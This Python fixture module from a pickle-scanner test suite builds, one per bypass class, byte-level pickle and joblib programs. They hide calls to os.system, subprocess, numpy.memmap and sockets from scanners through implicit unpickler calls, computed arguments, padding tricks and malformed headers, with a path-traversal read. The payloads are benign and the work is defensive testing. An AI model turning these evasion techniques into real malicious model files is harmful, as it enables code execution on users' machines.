"""One minimal program per bypass class the soundness campaign found (issue 9).

Built from bytes with :mod:`pklbuild`, never loaded by these tests: tests/pickle/test_bypasses.py
asserts the scanner blocks each one *at its gap* (``sites``: the opcodes where the hidden
call happens or the argument a contract must reject), and
tests/soundness/test_soundness_regressions.py asserts the real loaders do something
dangerous with each (inside the oracle's sandbox), so that no regression test guards
against a harmless file. Payloads are harmless: ``true``, a socket path, a file opened for
writing in the sandbox's working directory, ``/etc/hostname`` read.
"""

from __future__ import annotations

import pickletools
import zlib
from dataclasses import dataclass

from pklbuild import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWFALSE,
    NEWOBJ,
    NEWTRUE,
    NONE,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    SETITEMS,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    TUPLE3,
    binint,
    binint1,
    frame,
    global_,
    inst,
    proto,
    sbu,
    short_binbytes,
    string,
)


@dataclass(frozen=True)
class BypassProgram:
    name: str  # the class, as the campaign names it (soundness_grammar.finding_class)
    data: bytes
    filename: str
    sites: frozenset[int]  # where a finding must be; empty: anywhere (the class is the file)
    loaders: tuple[str, ...] = ("pickle",)  # the loaders the oracle sees it act in
    subject: str | None = None  # a finding must name this global instead of sitting at sites


def offsets(data: bytes, opcode: str) -> frozenset[int]:
    """Offsets of every ``opcode`` (pickletools name) in the leading stream of ``data``."""
    found = set()
    try:
        for op, _, position in pickletools.genops(data):
            if op.name == opcode:
                found.add(position)
    except ValueError:
        pass  # raw bytes after the stream
    return frozenset(found)


def last(data: bytes, opcode: str) -> frozenset[int]:
    return frozenset({max(offsets(data, opcode))})


# -- building blocks ---------------------------------------------------------------------


def computed(text: str) -> bytes:
    """``str("text")``: a string the stream computes (no literal for a scanner to read)."""
    return global_("builtins", "str") + sbu(text) + TUPLE1 + REDUCE


def resolved(module: str, name: str) -> bytes:
    """``numpy.core._ufunc_reconstruct(str(module), name)``: an allowlisted helper that
    imports ``module`` and returns its attribute ``name``."""
    return global_("numpy.core", "_ufunc_reconstruct") + computed(module) + sbu(name) + TUPLE2 + REDUCE


def entry(key: str, value: bytes) -> bytes:
    return sbu(key) + value + SETITEM


def with_attribute(key: str, value: bytes) -> bytes:
    """A SimpleNamespace whose BUILD dict state puts ``key`` into its ``__dict__``."""
    return global_("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE + EMPTY_DICT + entry(key, value) + BUILD


def bunch_with(key: str, value: bytes) -> bytes:
    """scikit-learn's Bunch answers attribute lookups from its items: SETITEM is enough."""
    return global_("sklearn.utils._bunch", "Bunch") + EMPTY_TUPLE + REDUCE + entry(key, value)


def stream(body: bytes) -> bytes:
    return proto(2) + body + STOP


# numpy.memmap is on the allowlist as reference-only (a joblib wrapper names it): naming
# it is fine, calling it opens the named file for reading and writing.
MEMMAP = global_("numpy", "memmap")
OUTSIDE = "../../../../../../etc/hostname"  # joblib.load hands it to numpy.load(allow_pickle=True)
WRAPPER = ("joblib.numpy_pickle_compat", "NDArrayWrapper")
HIDDEN = global_("os", "system") + MARK + string("true") + TUPLE + REDUCE + POP


def array_wrapper(typestr: str, count: int, elsize: int, aligned: bool, flags: int = 0) -> bytes:
    """joblib's inline NumpyArrayWrapper for ``count`` items of ``typestr``, whose dtype
    state claims ``elsize`` bytes per item (-1: none, as numpy writes for fixed types) and
    ``flags`` (63 for an object dtype)."""
    dtype = global_("numpy", "dtype") + sbu(typestr) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    dtype += (
        MARK
        + binint1(3)
        + sbu("<")
        + NONE
        + NONE
        + NONE
        + binint(elsize)
        + binint(-1)
        + binint1(flags)
        + TUPLE
        + BUILD
    )
    fields = [
        sbu("subclass") + global_("numpy", "ndarray"),
        sbu("shape") + binint1(count) + TUPLE1,
        sbu("order") + sbu("C"),
        sbu("dtype") + dtype,
        sbu("allow_mmap") + NEWFALSE,
    ]
    if aligned:
        fields.append(sbu("numpy_array_alignment_bytes") + binint1(16))
    state = EMPTY_DICT + MARK + b"".join(fields) + SETITEMS
    return (
        proto(2) + global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    )


# -- the programs ------------------------------------------------------------------------


def _implicit_calls() -> list[BypassProgram]:
    """Point 1: calls the unpickler makes without a call opcode."""
    build = stream(with_attribute("__setstate__", MEMMAP) + sbu("weights.dat") + BUILD)
    append = stream(with_attribute("append", MEMMAP) + sbu("weights.dat") + APPEND)
    # The C unpickler calls extend(["true"]); a list argument needs a callable that takes one.
    extend = stream(
        with_attribute("extend", resolved("subprocess", "check_call")) + MARK + sbu("true") + APPENDS
    )
    bunch_append = stream(bunch_with("append", MEMMAP) + sbu("weights.dat") + APPEND)
    bunch_extend = stream(
        bunch_with("extend", resolved("subprocess", "check_call")) + MARK + sbu("true") + APPENDS
    )
    add = stream(with_attribute("add", MEMMAP) + MARK + sbu("weights.dat") + ADDITEMS)
    return [
        BypassProgram("build_setstate_from_instance_dict", build, "model.pkl", offsets(build, "BUILD")),
        BypassProgram(
            "append_calls_append_from_instance_dict",
            append,
            "model.pkl",
            offsets(append, "BUILD") | offsets(append, "APPEND"),
        ),
        BypassProgram(
            "append_calls_extend_from_instance_dict",
            extend,
            "model.pkl",
            offsets(extend, "BUILD") | offsets(extend, "APPENDS"),
        ),
        BypassProgram(
            "append_calls_append_from_bunch_getattr",
            bunch_append,
            "model.pkl",
            offsets(bunch_append, "SETITEM") | offsets(bunch_append, "APPEND"),
        ),
        BypassProgram(
            "append_calls_extend_from_bunch_getattr",
            bunch_extend,
            "model.pkl",
            offsets(bunch_extend, "SETITEM") | offsets(bunch_extend, "APPENDS"),
        ),
        BypassProgram(
            "additems_calls_add_from_instance_dict",
            add,
            "model.pkl",
            offsets(add, "BUILD") | offsets(add, "ADDITEMS"),
        ),
    ]


def _computed_arguments() -> list[BypassProgram]:
    """Point 2: trusted helpers given computed arguments (finding at the helper's call)."""
    imported = stream(EMPTY_LIST + resolved("tabnanny", "__name__") + APPEND)
    helpers = (
        global_("numpy.random._pickle", "__randomstate_ctor"),
        global_("numpy.random._pickle", "__generator_ctor"),
    )
    random_state = stream(helpers[0] + sbu("true") + resolved("os", "system") + TUPLE2 + REDUCE)
    generator = stream(helpers[1] + sbu("true") + resolved("os", "system") + TUPLE2 + REDUCE)
    bit_generator = stream(
        global_("numpy.random._pickle", "__bit_generator_ctor")
        + resolved("socket", "socket")
        + TUPLE1
        + REDUCE
    )
    return [
        BypassProgram(
            "ufunc_reconstruct_imports_computed_name", imported, "model.pkl", last(imported, "REDUCE")
        ),
        BypassProgram(
            "randomstate_ctor_calls_computed_callable",
            random_state,
            "model.pkl",
            last(random_state, "REDUCE"),
        ),
        BypassProgram(
            "generator_ctor_calls_computed_callable", generator, "model.pkl", last(generator, "REDUCE")
        ),
        BypassProgram(
            "bit_generator_ctor_instantiates_computed_class",
            bit_generator,
            "model.pkl",
            last(bit_generator, "REDUCE"),
        ),
    ]


def _joblib_wrappers() -> list[BypassProgram]:
    """Point 4: caps and lost identity, on joblib's file-backed array wrappers."""
    new = global_(*WRAPPER) + EMPTY_TUPLE + NEWOBJ
    slotstate = stream(new + NONE + EMPTY_DICT + entry("filename", sbu(OUTSIDE)) + TUPLE2 + BUILD)
    filler = b"".join(sbu(f"f{i}") + binint1(i) for i in range(64))
    past_64 = stream(new + EMPTY_DICT + MARK + filler + sbu("filename") + sbu(OUTSIDE) + SETITEMS + BUILD)
    programs = [
        BypassProgram(
            "joblib_wrapper_filename_in_slotstate",
            slotstate,
            "model.joblib",
            offsets(slotstate, "BUILD"),
            ("joblib",),
        ),
        BypassProgram(
            "joblib_wrapper_filename_past_64_items",
            past_64,
            "model.joblib",
            offsets(past_64, "BUILD"),
            ("joblib",),
        ),
    ]
    # NDArrayWrapper(filename, subclass): __init__ keeps the name; an empty BUILD state is
    # enough for joblib.load to read the array from that file.
    args = sbu(OUTSIDE) + global_("numpy", "ndarray")
    for how, wrapper in (
        ("reduce", global_(*WRAPPER) + MARK + args + TUPLE + REDUCE),
        ("obj", MARK + global_(*WRAPPER) + args + OBJ),
        ("inst", MARK + args + inst(*WRAPPER)),
    ):
        data = stream(wrapper + EMPTY_DICT + BUILD)
        sites = offsets(data, "BUILD") | offsets(data, how.upper())
        programs.append(
            BypassProgram(f"joblib_wrapper_built_by_{how}", data, "model.joblib", sites, ("joblib",))
        )
    return programs


def _joblib_arrays() -> list[BypassProgram]:
    """Bytes joblib.load and pickle.load read differently around inline array data."""
    # numpy ignores elsize for f8: joblib reads 4 * 8 bytes and runs what follows, an
    # analyser trusting elsize (4 * 24 bytes) skips it.
    head = array_wrapper("f8", 4, 24, aligned=False)
    gap = 4 * 24 - 4 * 8 - len(HIDDEN)
    filler = (binint1(0) + POP if gap % 2 else b"") + (NONE + POP) * ((gap - 3 * (gap % 2)) // 2)
    larger = head + b"\xff" * 32 + HIDDEN + filler + STOP
    # joblib reads a padding length and skips that many bytes; a length of 78 is NONE to
    # pickle.load, which then runs the pickle inside the padding.
    aligned = array_wrapper("i4", 2, -1, aligned=True)
    inside = POP + HIDDEN + STOP
    padded = aligned + NONE + inside + b"\xff" * (78 - len(inside)) + b"\x00" * 8 + STOP
    # pickle.load reads the array bytes as the same stream going on: a first POP takes the
    # wrapper off its stack (a fresh machine underflowed there and dropped the rest), and
    # "I5\0" is 5 to the C unpickler (strtol stops at the NUL) where a strict reader broke.
    popped = POP + HIDDEN
    pops = array_wrapper("i1", len(popped), -1, aligned=False)
    nul_int = b"I5\x00\n" + POP + POP + HIDDEN
    nul = array_wrapper("i1", len(nul_int), -1, aligned=False)
    # joblib reads array data from the file, whose position is the end of a frame
    # pickle._Unpickler has read whole: a padding length (or a nested object pickle) inside
    # the frame is not what joblib reads.
    padded_body = array_wrapper("i4", 1, -1, aligned=True)[2:] + NONE
    padded_in_frame = proto(4) + frame(len(padded_body)) + padded_body
    after = (b"\x00" + bytes(4) + HIDDEN + STOP).ljust(78, b"\xff") + bytes(4) + STOP
    nested = NONE + POP + HIDDEN + STOP  # joblib's nested stream, at the frame's end
    objects_body = (
        array_wrapper("O8", 1, -1, aligned=False, flags=63)[2:] + short_binbytes(bytes(len(nested)))[:2]
    )
    objects_in_frame = proto(4) + frame(len(objects_body)) + objects_body
    return [
        BypassProgram(
            "joblib_array_padding_inside_a_frame",
            padded_in_frame + after,
            "model.joblib",
            frozenset({len(padded_in_frame) - 1}),
            ("joblib",),
        ),
        BypassProgram(
            "joblib_object_array_inside_a_frame",
            objects_in_frame + nested + STOP + STOP,
            "model.joblib",
            frozenset({len(objects_in_frame) - 2}),
            ("joblib",),
        ),
        BypassProgram(
            "joblib_array_data_pops_the_wrapper",
            pops + popped + STOP,
            "model.joblib",
            frozenset({len(pops) + 1}),
        ),
        BypassProgram(
            "joblib_array_data_after_a_nul_int",
            nul + nul_int + STOP,
            "model.joblib",
            frozenset({len(nul) + 6}),
        ),
        BypassProgram(
            "joblib_array_elsize_larger", larger, "model.joblib", frozenset({len(head) + 32}), ("joblib",)
        ),
        BypassProgram(
            "joblib_array_pad_payload", padded, "model.joblib", frozenset({len(aligned) + 2}), ("pickle",)
        ),
    ]


def _side_effects() -> list[BypassProgram]:
    """Point 5: allowlisted classes whose unpickling does I/O (data only)."""
    # ScoringMonitor.__setstate__ connects to the listener its state names
    # (multiprocessing.connection.Client): here a socket path; any address works.
    monitor = global_("copyreg", "_reconstructor") + global_(
        "sklearn.callback._scoring_monitor", "ScoringMonitor"
    )
    monitor += global_("builtins", "object") + NONE + TUPLE3 + REDUCE
    handle = (
        global_("sklearn.callback._transport", "ListenerHandle")
        + sbu("modelsec.sock")
        + short_binbytes(b"k" * 8)
    )
    state = EMPTY_DICT + entry("_listener_handle", handle + TUPLE2 + REDUCE) + entry("_log", EMPTY_LIST)
    data = stream(monitor + state + BUILD)
    return [BypassProgram("side_effect_in_scoring_monitor_setstate", data, "model.pkl", frozenset())]


def _formats() -> list[BypassProgram]:
    """Points 6 and 7: joblib reads the legacy ZF header with int(text, 16)."""
    attack = proto(2) + HIDDEN + NONE + STOP
    programs = []
    for label, spelling in (
        ("upper", b"0X1B"),
        ("bare", b"1b"),
        ("space", b" 0x1b"),
        ("plus", b"+0x1b"),
        ("underscore", b"0x_1b"),
        ("tab", b"0x1b\t"),
    ):
        data = b"ZF" + spelling.ljust(19) + zlib.compress(attack)
        programs.append(
            BypassProgram(
                f"joblib_header_zf_{label}",
                data,
                "model.joblib",
                frozenset(),
                ("joblib",),
                subject="os.system",
            )
        )
    assert len(attack) == 0x1B
    return programs


PROGRAMS: dict[str, BypassProgram] = {
    p.name: p
    for p in _implicit_calls()
    + _computed_arguments()
    + _joblib_wrappers()
    + _joblib_arrays()
    + _side_effects()
    + _formats()
}
